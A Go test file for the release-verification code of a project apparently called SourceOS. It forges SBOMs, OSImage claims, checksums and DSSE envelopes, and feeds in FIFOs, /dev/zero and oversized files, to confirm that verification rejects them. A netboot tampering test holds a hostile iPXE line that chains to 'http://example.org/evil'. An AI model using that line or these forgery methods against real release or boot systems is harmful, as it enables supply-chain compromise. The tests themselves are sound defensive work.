package release_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"runtime/metrics"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/socioprophet/sourceos/internal/digest"
	"github.com/socioprophet/sourceos/internal/provenance"
	"github.com/socioprophet/sourceos/internal/release"
	"github.com/socioprophet/sourceos/internal/sign"
)

// editJSON rewrites the JSON object in path through f.
func editJSON(t *testing.T, path string, f func(m map[string]any)) {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal(readFile(t, path), &m); err != nil {
		t.Fatal(err)
	}
	f(m)
	b, err := json.MarshalIndent(m, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	writeFile(t, path, append(b, '\n'))
}

func member(m map[string]any, k string) map[string]any { return m[k].(map[string]any) }

// osImageForgeries change one claim of the OSImage document each, keeping
// it valid against the schema.
var osImageForgeries = []struct {
	name  string
	apply func(m map[string]any)
}{
	{"architecture", func(m map[string]any) { m["architecture"] = "aarch64" }},
	{"artifact kind", func(m map[string]any) { m["artifact"] = "qcow2" }},
	{"VERSION_ID", func(m map[string]any) { member(m, "osRelease")["VERSION_ID"] = "9.9.9" }},
	{"IMAGE_ID", func(m map[string]any) { member(m, "osRelease")["IMAGE_ID"] = "sourceos-server" }},
	{"IMAGE_VERSION", func(m map[string]any) { member(m, "osRelease")["IMAGE_VERSION"] = "9.9.9" }},
	{"BUILD_ID", func(m map[string]any) { member(m, "osRelease")["BUILD_ID"] = "build-666" }},
	{"channel", func(m map[string]any) { member(m, "ociAnnotations")["com.socioprophet.os.channel"] = "stable" }},
	{"image version", func(m map[string]any) { member(m, "ociAnnotations")["org.opencontainers.image.version"] = "9.9.9" }},
	{"revision", func(m map[string]any) {
		member(m, "ociAnnotations")["org.opencontainers.image.revision"] = strings.Repeat("f", 40)
	}},
	{"source", func(m map[string]any) {
		member(m, "ociAnnotations")["org.opencontainers.image.source"] = "https://example.org/fork"
	}},
}

// A document changed after signing fails the digest the signed predicate
// gives for it; its forged claims are named too.
func TestVerifyCatchesForgedDocuments(t *testing.T) {
	k := newKeys(t)
	type forgery struct {
		name   string
		change func(t *testing.T, iso string)
		want   []string // checks that must fail
	}
	forgeries := []forgery{
		{"SBOM component dropped", func(t *testing.T, iso string) {
			editJSON(t, iso+".sbom.json", dropComponent)
			if err := provenance.CheckSBOM(readFile(t, iso+".sbom.json"), sha256Of(t, iso)); err != nil {
				t.Fatalf("the forged SBOM must be consistent on its own: %v", err)
			}
		}, []string{release.CheckByproducts}},
		{"SBOM component replaced", func(t *testing.T, iso string) {
			editJSON(t, iso+".sbom.json", func(m map[string]any) {
				c := m["components"].([]any)[0].(map[string]any)
				c["name"], c["version"] = "openssl", "1.0.1f"
			})
		}, []string{release.CheckByproducts}},
		{"SBOM deleted", func(t *testing.T, iso string) { remove(t, iso+".sbom.json") },
			[]string{release.CheckByproducts, release.CheckSBOM}},
		{"SBOM and its ref deleted", func(t *testing.T, iso string) {
			remove(t, iso+".sbom.json")
			editJSON(t, iso+".osimage.json", func(m map[string]any) { delete(member(m, "provenance"), "sbomRef") })
		}, []string{release.CheckByproducts, release.CheckOSImageRefs, release.CheckSBOM}},
		{"OSImage deleted", func(t *testing.T, iso string) { remove(t, iso+".osimage.json") },
			[]string{release.CheckByproducts, release.CheckOSImageSchema}},
		{"checksum file forged", func(t *testing.T, iso string) {
			writeFile(t, iso+".sha256", []byte(strings.Repeat("0", 64)+"  "+isoName+"\n"))
		}, []string{release.CheckSHA256File}},
		{"predicate file forged", func(t *testing.T, iso string) {
			b := strings.Replace(string(readFile(t, iso+".slsa.json")), `"version": "1.2.3"`, `"version": "9.9.9"`, 1)
			writeFile(t, iso+".slsa.json", []byte(b))
		}, []string{release.CheckSLSA}},
	}
	for _, f := range osImageForgeries {
		forgeries = append(forgeries, forgery{"OSImage " + f.name, func(t *testing.T, iso string) {
			editJSON(t, iso+".osimage.json", f.apply)
		}, []string{release.CheckByproducts, release.CheckOSImageClaims}})
	}
	for _, f := range forgeries {
		t.Run(f.name, func(t *testing.T) {
			iso := artifact(t, t.TempDir(), isoName, 4096)
			signISO(t, k, iso)
			before := map[string][]byte{}
			for _, ext := range allSidecars {
				before[ext], _ = os.ReadFile(iso + ext)
			}
			f.change(t, iso)
			changed := false
			for _, ext := range allSidecars {
				after, _ := os.ReadFile(iso + ext)
				changed = changed || !bytes.Equal(before[ext], after)
			}
			if !changed {
				t.Fatal("the forgery changed nothing")
			}
			expectFailed(t, iso, k, f.want...)
		})
	}
}

// A document present beside the artifact but not listed in the signed
// predicate fails, and so does one listed by another name.
func TestVerifyCatchesUnlistedDocuments(t *testing.T) {
	k := newKeys(t)
	donor := artifact(t, t.TempDir(), isoName, 4096)
	signISO(t, k, donor)

	iso := artifact(t, t.TempDir(), isoName, 4096)
	signISO(t, k, iso, func(o *release.SignOptions) { o.Closure = nil })
	if _, err := os.Stat(iso + ".sbom.json"); !os.IsNotExist(err) {
		t.Fatalf("signed without a closure, yet an SBOM: %v", err)
	}
	if rep, err := verify(t, iso, k.pub()); err != nil {
		t.Fatalf("%v\n%s", err, reportText(rep))
	}
	writeFile(t, iso+".sbom.json", readFile(t, donor+".sbom.json"))
	expectFailed(t, iso, k, release.CheckByproducts)

	kernel := artifact(t, t.TempDir(), "bzImage", 4096)
	if _, err := release.Sign(context.Background(), release.SignOptions{Kind: release.Netboot,
		Artifacts: []release.Artifact{{Path: kernel}}, Build: buildInfo("netboot"), SecretKey: k.secret(), Now: clock}); err != nil {
		t.Fatal(err)
	}
	writeFile(t, kernel+".osimage.json", readFile(t, donor+".osimage.json"))
	expectFailed(t, kernel, k, release.CheckByproducts)
}

// resign makes the release beside iso consistent again after a forgery,
// as someone holding the key would: the predicate lists the documents as
// they now are, and the statement is signed anew. Only the check of the
// OSImage document's claims against the predicate can catch what is left.
func resign(t *testing.T, k keys, iso string) {
	t.Helper()
	var bps []provenance.Byproduct
	for _, doc := range []struct{ ext, mediaType string }{
		{".sbom.json", provenance.MediaTypeCycloneDX}, {".osimage.json", provenance.MediaTypeOSImage}} {
		sum := sha256.Sum256(readFile(t, iso+doc.ext))
		bps = append(bps, provenance.Byproduct{Name: isoName + doc.ext, SHA256: hex.EncodeToString(sum[:]), MediaType: doc.mediaType})
	}
	pred, err := provenance.SLSAPredicate(buildInfo("iso"), bps...)
	if err != nil {
		t.Fatal(err)
	}
	d, err := digest.Reader(bytes.NewReader(readFile(t, iso)))
	if err != nil {
		t.Fatal(err)
	}
	st, err := provenance.Statement([]provenance.Subject{{Name: isoName, SHA256: d.SHA256Hex(), SHA512: d.SHA512Hex()}}, pred)
	if err != nil {
		t.Fatal(err)
	}
	sk, err := sign.ParseSecretKey(k.pair.SecretKey, "")
	if err != nil {
		t.Fatal(err)
	}
	env, err := sk.SignEnvelope(sign.PayloadTypeInToto, st)
	if err != nil {
		t.Fatal(err)
	}
	writeFile(t, iso+".slsa.json", pred)
	writeFile(t, iso+".intoto.json", st)
	writeFile(t, iso+".intoto.dsse.json", env)
}

func TestVerifyChecksOSImageClaimsAgainstSignedPredicate(t *testing.T) {
	k := newKeys(t)
	t.Run("re-signed unchanged", func(t *testing.T) {
		iso := artifact(t, t.TempDir(), isoName, 4096)
		signISO(t, k, iso)
		resign(t, k, iso)
		if rep, err := verify(t, iso, k.pub()); err != nil {
			t.Fatalf("resign does not reproduce what Sign writes: %v\n%s", err, reportText(rep))
		}
	})
	for _, f := range osImageForgeries {
		t.Run(f.name, func(t *testing.T) {
			iso := artifact(t, t.TempDir(), isoName, 4096)
			signISO(t, k, iso)
			editJSON(t, iso+".osimage.json", f.apply)
			resign(t, k, iso)
			rep := expectFailed(t, iso, k, release.CheckOSImageClaims)
			if got := status(rep, release.CheckByproducts); got != release.Pass {
				t.Errorf("byproducts check %s: the re-signed predicate lists the forged document, so only the claims check can catch it", got)
			}
		})
	}
}

// An envelope another parser would read differently is refused, even
// though the statement our parser would pick is the signed one.
func TestVerifyRefusesAmbiguousDSSE(t *testing.T) {
	k := newKeys(t)
	for name, rewrite := range map[string]func(env, forged string) string{
		"case-variant payload after": func(env, forged string) string {
			return strings.Replace(env, "\n}", ",\n  \"Payload\": \""+forged+"\"\n}", 1)
		},
		"case-variant payload before": func(env, forged string) string {
			return strings.Replace(env, `"payload":`, `"Payload": "`+forged+`", "payload":`, 1)
		},
		"duplicate payload": func(env, forged string) string {
			return strings.Replace(env, `"payload":`, `"payload": "`+forged+`", "payload":`, 1)
		},
		"unknown member": func(env, forged string) string {
			return strings.Replace(env, `"payload":`, `"statement": "`+forged+`", "payload":`, 1)
		},
	} {
		t.Run(name, func(t *testing.T) {
			iso := artifact(t, t.TempDir(), isoName, 4096)
			signISO(t, k, iso)
			forged := strings.Replace(string(readFile(t, iso+".intoto.json")), `"x86_64"`, `"aarch64"`, -1)
			env := string(readFile(t, iso+".intoto.dsse.json"))
			bad := rewrite(env, base64.StdEncoding.EncodeToString([]byte(forged)))
			if bad == env {
				t.Fatal("rewrite changed nothing")
			}
			writeFile(t, iso+".intoto.dsse.json", []byte(bad))
			expectFailed(t, iso, k, release.CheckDSSESignature)
		})
	}
}

// expectFailed verifies path and requires exit 1 with each of checks failed.
func expectFailed(t *testing.T, path string, k keys, checks ...string) *release.Report {
	t.Helper()
	rep, err := verify(t, path, k.pub())
	if release.ExitCode(err) != release.ExitFailed || rep.OK {
		t.Errorf("exit %d (%v), want %d", release.ExitCode(err), err, release.ExitFailed)
	}
	for _, c := range checks {
		if got := status(rep, c); got != release.Fail {
			t.Errorf("check %q is %s, want fail", c, got)
		}
	}
	if t.Failed() {
		t.Logf("report:\n%s", reportText(rep))
	}
	return rep
}

// dropComponent removes the last component of an SBOM and every mention
// of it, so the SBOM stays consistent.
func dropComponent(m map[string]any) {
	comps := m["components"].([]any)
	gone := comps[len(comps)-1].(map[string]any)["bom-ref"]
	m["components"] = comps[:len(comps)-1]
	var deps []any
	for _, d := range m["dependencies"].([]any) {
		dep := d.(map[string]any)
		if dep["ref"] == gone {
			continue
		}
		var on []any
		for _, r := range asSlice(dep["dependsOn"]) {
			if r != gone {
				on = append(on, r)
			}
		}
		delete(dep, "dependsOn")
		if len(on) > 0 {
			dep["dependsOn"] = on
		}
		deps = append(deps, dep)
	}
	m["dependencies"] = deps
}

func asSlice(v any) []any {
	s, _ := v.([]any)
	return s
}

func sha256Of(t *testing.T, path string) string {
	t.Helper()
	sum := sha256.Sum256(readFile(t, path))
	return hex.EncodeToString(sum[:])
}

func remove(t *testing.T, path string) {
	t.Helper()
	if err := os.Remove(path); err != nil {
		t.Fatal(err)
	}
}

// heapCeiling stops the test binary if the heap passes limit while the
// test runs, before a runaway read takes the machine's memory.
func heapCeiling(t *testing.T, limit uint64) {
	t.Helper()
	runtime.GC()
	done := make(chan struct{})
	t.Cleanup(func() { close(done) })
	go func() {
		s := []metrics.Sample{{Name: "/memory/classes/heap/objects:bytes"}}
		tick := time.NewTicker(2 * time.Millisecond)
		defer tick.Stop()
		for {
			select {
			case <-done:
				return
			case <-tick.C:
			}
			if metrics.Read(s); s[0].Value.Uint64() > limit {
				panic(fmt.Sprintf("%s: heap passed %d MiB: verify reads without a bound", t.Name(), limit>>20))
			}
		}
	}()
}

// verifyWithin runs verify and fails the test if it has not returned
// within d (a FIFO opened for reading blocks until a writer comes).
func verifyWithin(t *testing.T, d time.Duration, path, pub string) (*release.Report, error) {
	t.Helper()
	type result struct {
		rep *release.Report
		err error
	}
	done := make(chan result, 1)
	go func() {
		rep, err := release.Verify(context.Background(), release.VerifyOptions{Artifact: path, PublicKey: pub})
		done <- result{rep, err}
	}()
	select {
	case r := <-done:
		return r.rep, r.err
	case <-time.After(d):
		t.Fatalf("verify %s did not return within %s", filepath.Base(path), d)
		return nil, nil
	}
}

// Verify reads regular files only, each within its size limit: a sidecar
// or artifact that is /dev/zero, a FIFO, or larger than its limit is a
// quick "could not verify" naming the file, in bounded memory.
func TestVerifyRefusesUnsafeFiles(t *testing.T) {
	k := newKeys(t)
	exts := []string{".sha256", ".minisig", ".intoto.json", ".intoto.dsse.json", ".slsa.json", ".sbom.json", ".osimage.json"}
	type tc struct {
		name   string
		change func(t *testing.T, iso string) string // returns the path to verify
		pub    func(iso string) string
		want   []string // in the report's error
	}
	var cases []tc
	for _, ext := range exts {
		cases = append(cases,
			tc{name: ext + " is /dev/zero", change: func(t *testing.T, iso string) string {
				remove(t, iso+ext)
				if err := os.Symlink("/dev/zero", iso+ext); err != nil {
					t.Fatal(err)
				}
				return iso
			}, want: []string{isoName + ext, "not a regular file", "character device"}},
			tc{name: ext + " is a FIFO", change: func(t *testing.T, iso string) string {
				remove(t, iso+ext)
				mkfifo(t, iso+ext)
				return iso
			}, want: []string{isoName + ext, "not a regular file", "FIFO"}},
			tc{name: ext + " is one byte over its limit", change: func(t *testing.T, iso string) string {
				if err := os.Truncate(iso+ext, release.SidecarLimit(ext)+1); err != nil {
					t.Fatal(err)
				}
				return iso
			}, want: []string{isoName + ext, "limit"}},
		)
	}
	cases = append(cases,
		tc{name: "3 GiB SBOM", change: func(t *testing.T, iso string) string {
			if err := os.Truncate(iso+".sbom.json", 3<<30); err != nil {
				t.Fatal(err)
			}
			return iso
		}, want: []string{isoName + ".sbom.json", "3221225472 bytes, the limit is 64 MiB"}},
		tc{name: "artifact is a FIFO", change: func(t *testing.T, iso string) string {
			p := filepath.Join(filepath.Dir(iso), "fifo.iso")
			mkfifo(t, p)
			return p
		}, want: []string{"fifo.iso", "not a regular file", "FIFO"}},
		tc{name: "artifact is /dev/zero", change: func(t *testing.T, iso string) string {
			p := filepath.Join(filepath.Dir(iso), "zero.iso")
			if err := os.Symlink("/dev/zero", p); err != nil {
				t.Fatal(err)
			}
			return p
		}, want: []string{"zero.iso", "not a regular file"}},
		tc{name: "public key file is a FIFO", change: func(t *testing.T, iso string) string {
			mkfifo(t, iso+".pub")
			return iso
		}, pub: func(iso string) string { return iso + ".pub" }, want: []string{"public key file", "not a regular file"}},
	)
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			iso := artifact(t, t.TempDir(), isoName, 4096)
			signISO(t, k, iso)
			target := c.change(t, iso)
			pub := k.pub()
			if c.pub != nil {
				pub = c.pub(iso)
			}
			heapCeiling(t, 256<<20)
			start := time.Now()
			rep, err := verifyWithin(t, 10*time.Second, target, pub)
			if release.ExitCode(err) != release.ExitCannotVerify {
				t.Errorf("exit %d (%v), want %d\n%s", release.ExitCode(err), err, release.ExitCannotVerify, reportText(rep))
			}
			for _, w := range c.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q does not say %q", err, w)
				}
			}
			if el := time.Since(start); el > 2*time.Second {
				t.Errorf("took %s", el)
			}
		})
	}
}

func mkfifo(t *testing.T, path string) {
	t.Helper()
	if err := syscall.Mkfifo(path, 0o644); err != nil {
		t.Fatal(err)
	}
}

// Signing refuses a FIFO too, instead of waiting for a writer.
func TestSignRefusesFIFO(t *testing.T) {
	p := filepath.Join(t.TempDir(), isoName)
	mkfifo(t, p)
	done := make(chan error, 1)
	go func() {
		_, err := release.Sign(context.Background(), release.SignOptions{Kind: release.ISO,
			Artifacts: []release.Artifact{{Path: p}}, Build: buildInfo("iso"), Now: clock})
		done <- err
	}()
	select {
	case err := <-done:
		if err == nil || !strings.Contains(err.Error(), "not a regular file") {
			t.Errorf("sign a FIFO: %v", err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("sign blocked on a FIFO")
	}
}

// The netboot manifest's signature covers the set: each file it lists must
// be beside it with its digest, and the manifest must describe the build
// the signed predicate records.
func TestNetbootSetTampering(t *testing.T) {
	k := newKeys(t)
	signSet := func(t *testing.T, b provenance.BuildInfo) []string {
		t.Helper()
		paths := netbootSet(t, t.TempDir(), b)
		var arts []release.Artifact
		for _, p := range paths {
			arts = append(arts, release.Artifact{Path: p})
		}
		if _, err := release.Sign(context.Background(), release.SignOptions{Kind: release.Netboot, Artifacts: arts,
			Build: buildInfo("netboot"), SecretKey: k.secret(), Now: clock}); err != nil {
			t.Fatal(err)
		}
		return paths
	}
	for name, tamper := range map[string]func(t *testing.T, paths []string){
		"iPXE script replaced": func(t *testing.T, paths []string) {
			writeFile(t, paths[2], []byte("#!ipxe\nchain http://example.org/evil\n"))
		},
		"iPXE script same size, other bytes": func(t *testing.T, paths []string) { flipByte(t, paths[2], 7) },
		"initrd missing":                     func(t *testing.T, paths []string) { remove(t, paths[1]) },
	} {
		t.Run(name, func(t *testing.T) {
			paths := signSet(t, buildInfo("netboot"))
			tamper(t, paths)
			expectFailed(t, paths[3], k, release.CheckNetbootSet)
		})
	}
	t.Run("manifest for another edition, signed", func(t *testing.T) {
		b := buildInfo("netboot")
		b.Edition = "server"
		paths := signSet(t, b) // the predicate says desktop
		expectFailed(t, paths[3], k, release.CheckNetbootSet)
	})
}
